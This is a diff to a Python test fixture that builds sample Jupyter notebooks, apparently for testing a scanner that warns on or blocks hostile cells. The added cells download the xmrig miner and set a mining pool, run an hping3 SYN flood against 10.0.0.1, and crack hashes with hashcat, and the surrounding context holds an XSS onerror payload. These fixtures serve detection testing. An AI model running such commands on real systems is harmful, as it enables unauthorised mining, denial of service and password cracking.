@@ -88,6 +88,15 @@ print("the warned cell ran")"""
 XSS_BLOCK_CODE = """\
 !wget https://github.com/xmrig/xmrig/releases/x.tar.gz  # <img src=x onerror="window.__pwned=2">"""
 
+# the miner named by its release archive only, and its pool: the miner's rule must lead
+MINER_AND_POOL_CODE = (
+    '!curl -LO https://example.org/dl/xmrig-6.21.0-linux-static-x64.tar.gz\nPOOL = "pool.supportxmr.com:3333"'
+)
+
+FLOOD_CODE = "!hping3 --flood -S 10.0.0.1"
+
+HASHCAT_CODE = "!hashcat -m 0 hashes.txt rockyou.txt"
+
 BENIGN_CODE = """\
 open("benign_ran.txt", "w").write("ok")
 print("hello from a benign cell")"""
@@ -102,6 +111,14 @@ NOTEBOOKS = {
     "other_a.ipynb": [BLOCK_CODE.replace("block_ran", "other_a_ran")],
     "other_b.ipynb": [BENIGN_CODE.replace("benign_ran", "other_b_ran")],
     "opened.ipynb": [BENIGN_CODE.replace("benign_ran", "opened_ran"), BLOCK_CODE.replace("block_ran", "opened_block")],
+    "several.ipynb": [
+        BLOCK_CODE.replace("block_ran", "several_ran"),
+        MINER_AND_POOL_CODE,
+        FLOOD_CODE,
+        HASHCAT_CODE,
+        WARN_CODE,
+    ],
+    "settings.ipynb": [HASHCAT_CODE, FLOOD_CODE],
     "nb7.ipynb": [BLOCK_CODE.replace("block_ran", "nb7_ran"), AFTER_BLOCK_CODE.replace("after_block", "nb7_after")],
 }
 
